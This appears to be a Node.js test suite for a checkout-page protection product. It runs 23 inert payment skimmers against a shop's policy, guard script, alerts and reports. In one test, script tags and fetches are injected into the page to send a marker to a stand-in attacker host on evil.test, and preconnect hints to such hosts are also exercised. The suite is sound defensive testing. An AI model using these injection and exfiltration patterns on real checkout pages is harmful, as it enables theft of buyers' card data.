// Twenty-three inert skimmers of our own, one for each way out of a page (reference/payments.md 4.3), on a shop's paying page behind Storeward:
// its policy, its guard script, its reports, its alerts. The script that they stand in was approved, as a shop's own would be that turned bad.
// The first run is without protection: there they get through, so the others can fail. What tries to undo the guard is in escapes.test.mjs.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { payingPlace, until } from './lib/paying.mjs';
import { marker, runAndClick } from './lib/skimmers.mjs';

/** What is left open, and who sees it: docs/checkout.md, "What stays open". */
const WATCHED = {
  preconnect: 'says a host\'s name; the guard reports it, and staff are told',
  'same-origin': 'goes through Storeward, which looks for card numbers in it',
};
/** Beside them with no guard: what a content policy leaves open by itself, as it was measured. */
const BY_POLICY_ALONE = ['location', 'meta-refresh', 'preconnect', 'same-origin', 'webrtc', 'webrtc-in-a-frame', 'window-open'];

let place;
let ways;
let links;
let browsers;

before(async () => {
  place = await payingPlace();
  ({ browsers, skimmers: { ways, links } } = place);
});

after(() => place?.stop());

const guarded = () => place.guarded();
const through = (...given) => place.through(...given);
const listed = (...words) => place.listed(...words);

test('without protection every one of the twenty-three gets through', async () => {
  assert.equal(ways.length, 23);
  assert.deepEqual(await through(browsers.old, `${place.shop.home}/checkout`, ways, { patience: 60_000 }), [...ways].sort());
});

test('behind a guard that only learns they get through as well, and the inventory names where to', async () => {
  assert.deepEqual(await through(browsers.whole, guarded(), ways, { patience: 60_000 }), [...ways].sort());
  const rows = await until('the inventory', () => listed('scripts', '--show', 'all'), (rows) => {
    const kinds = new Set(rows.filter(({ address }) => address.includes('.evil.test')).map(({ kind }) => kind));
    // A form leaves the page at once, and its report may be lost with it.
    return ['script', 'connect', 'image', 'style', 'font', 'media', 'object', 'frame'].every((kind) => kinds.has(kind));
  });
  assert.ok(rows.every(({ status }) => status === 'new'), 'nobody approved anything yet');
  const alerts = await listed('alerts');
  for (const { address } of rows) assert.ok(alerts.some(({ kind, what }) => kind === 'script_new' && what.endsWith(` ${address}`)), address);
});

test('the script is approved, and the page held to what was', async () => {
  const headers = await place.hold();
  assert.match(headers['content-security-policy'], /default-src 'none'; script-src [^;]*\/skimmers\.js/);
  assert.match(headers['content-security-policy'], /script-src-elem 'unsafe-inline' [^;,]*\/skimmers\.js/);
  assert.equal(headers['cross-origin-opener-policy'], 'same-origin-allow-popups');
  // Own and providers' hosts, those with a part for any name, too: a list that the browser could not read would let everything out below.
  assert.match(headers['connection-allowlist'], /^\(response-origin( "https:\/\/[\w.*:-]+\/\*")+\);redirects=allow$/);
  for (const host of ['https://*.js.stripe.com', 'https://*.paypal.com', new URL(guarded()).origin]) {
    assert.ok(headers['connection-allowlist'].includes(`"${host}/*"`), host);
  }
});

/** That no more than two got out, each of them known. */
function isWatched(out) {
  assert.ok(out.length <= 2, out.join(', '));
  for (const name of out) assert.ok(WATCHED[name], `${name} is open and nobody watches it`);
}

test('behind policy and guard at most two are open, and staff are told of what was tried', async () => {
  isWatched(await through(browsers.old, guarded(), ways));
  const wanted = ['preconnect seen evil.test', 'webrtc blocked', 'window_open blocked evil.test', 'navigate blocked evil.test'];
  await place.told(['preconnect', 'webrtc', 'window-open', 'location'], wanted);
});

test('with the browser’s own list of hosts, only what goes through Storeward is open', async () => {
  assert.deepEqual(await through(browsers.whole, guarded(), ways, { least: ['same-origin'] }), ['same-origin']);
});

test('providers’ hosts are reached as the policy names them, and none beside them', async () => {
  const page = await browsers.whole.newPage();
  await page.goto(guarded());
  const word = marker();
  await page.evaluate(async ({ word, port }) => {
    const put = (name, src) => new Promise((done) => {
      const made = document.createElement(name);
      made.addEventListener('load', done);
      made.addEventListener('error', done);
      made.src = src;
      document.head.append(made);
    });
    const ask = (url) => fetch(url, { mode: 'no-cors' }).catch(() => {});
    for (const host of ['js.stripe.com', 'm.js.stripe.com', 'www.paypal.com']) await put('script', `https://${host}/s?${word}`);
    for (const host of ['api.stripe.com', 'www.sandbox.paypal.com']) await ask(`https://${host}/c?${word}`);
    await put('img', `https://q.stripe.com/i?${word}`);
    for (const host of ['files.stripe.com', `js.stripe.com.evil.test:${port}`, 'paypal.com']) {
      await put('script', `https://${host}/s?${word}`);
      await ask(`https://${host}/c?${word}`);
    }
  }, { word, port: place.attacker.port });
  const reached = place.attacker.arrived.filter((line) => line.includes(word)).map((line) => line.split(/[ ?]/)[1]);
  assert.deepEqual(reached, ['js.stripe.com/s', 'm.js.stripe.com/s', 'www.paypal.com/s', 'api.stripe.com/c', 'www.sandbox.paypal.com/c', 'q.stripe.com/i']);
  await page.close();
});

test('what goes through Storeward does not go with a card’s number in it, and is told', async () => {
  const page = await browsers.whole.newPage();
  await page.goto(guarded());
  const sent = (body) => page.evaluate(async (text) => (await fetch('/checkout/note', { method: 'POST', body: text })).status, body);
  assert.equal(await sent('a word'), 204);
  assert.equal(await sent('4242 4242 4242 4242'), 422);
  assert.ok(place.shop.notes.includes('a word'));
  assert.ok(!place.shop.notes.some((note) => /4242/.test(note)), 'the shop was handed a card\'s number');
  await page.close();
});

test('the policy of the page alone leaves seven open', async () => {
  assert.deepEqual(await through(browsers.bare, guarded(), ways, { least: BY_POLICY_ALONE }), BY_POLICY_ALONE);
});

test('a hint is told that is gone again, that stands in a frame, that was another a moment ago', async () => {
  const page = await browsers.old.newPage();
  await page.goto(guarded());
  await page.evaluate(() => {
    const hint = (of, name, parent = of.head) => {
      const made = of.createElement('link');
      made.rel = 'preconnect';
      made.href = `https://x.${name}.test`;
      parent.append(made);
      return made;
    };
    hint(document, 'gone').remove();
    hint(document, 'href-before').href = '/';
    hint(document, 'rel-before').rel = 'author';
    const frame = document.createElement('iframe');
    document.body.append(frame);
    hint(frame.contentDocument, 'in-a-frame');
    const inner = document.createElement('div');
    hint(document, 'deep', inner);
    document.body.append(inner);
    const own = document.createElement('link');
    own.rel = 'preconnect';
    own.href = '/';
    document.head.append(own);
  });
  const wanted = ['gone', 'href-before', 'rel-before', 'in-a-frame', 'deep'].map((name) => `preconnect seen ${name}.test`);
  await until('alerts of hints', () => listed('alerts'), (alerts) => wanted.every((words) => alerts.some(({ what }) => what.trim() === words)));
  await page.close();
});

test('what is kept of it names no more than a host', async () => {
  const report = await place.stand.say(['checkout', 'report']);
  const kept = [report, JSON.stringify(await listed('alerts')), JSON.stringify(await listed('scripts', '--show', 'all'))].join('\n');
  assert.match(kept, /evil\.test/);
  assert.doesNotMatch(kept, /card[0-9a-f]{12}/, 'it holds what was to be stolen');
  const log = await readFile(path.join(place.stand.dir, 'storeward.log'), 'utf8');
  assert.doesNotMatch(log, /card[0-9a-f]{12}/);
});

test('a buyer notices nothing: the form is sent, links and windows of the shop open, a frame may be written', async () => {
  const browser = browsers.whole;
  const page = await browser.newPage();
  const faults = [];
  page.on('console', (message) => ['error', 'warning'].includes(message.type()) && faults.push(message.text()));
  page.on('pageerror', (error) => faults.push(error.message));
  await page.goto(guarded());
  const [terms] = await Promise.all([browser.waitForEvent('page'), page.locator('#terms').click()]);
  await terms.waitForURL('**/blank');
  await terms.close();
  const opened = await Promise.all([browser.waitForEvent('page'), page.evaluate(() => globalThis.open('/blank') === null)]);
  await opened[0].close();
  const text = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument.body.append('words');
    const list = document.createElement('ul');
    list.innerHTML = '<li>a</li>';
    list.append('b', document.createElement('li'));
    document.body.replaceChildren(list, ...document.body.childNodes);
    return `${frame.contentDocument.body?.textContent} ${list.childNodes.length} ${window.length}`;
  });
  assert.equal(text, ' 3 1');
  await page.locator('#card').fill('nothing');
  await page.locator('#pay').focus();
  await page.keyboard.press('Enter');
  await page.waitForURL('**/blank');
  assert.deepEqual(faults.filter((fault) => !/404/.test(fault)), []);
  await page.close();
});

test('no link that a person clicks leads away, wherever it stands and whenever its address is put in', async () => {
  const out = async (browser, patience) => {
    const found = [];
    for (const name of links) if (await runAndClick(browser, guarded(), name, { attacker: place.attacker, patience })) found.push(name);
    return found;
  };
  assert.deepEqual(await out(browsers.old, 1_500), []);
  assert.deepEqual(await out(browsers.bare, 30_000), links, 'some do not even work without the guard');
});

test('a guard that learns again tells, and stops nothing', async () => {
  await place.stand.say(['checkout', 'hold', '/checkout', 'learn']);
  const page = await browsers.whole.newPage();
  await until('the policy is gone', async () => (await page.goto(guarded())).headers(), (headers) => headers['content-security-policy'] === undefined);
  await page.close();
  const some = ['window-open', 'location', 'webrtc-in-a-frame', 'link-by-hand'];
  assert.deepEqual(await through(browsers.old, guarded(), some, { patience: 60_000 }), [...some].sort());
});
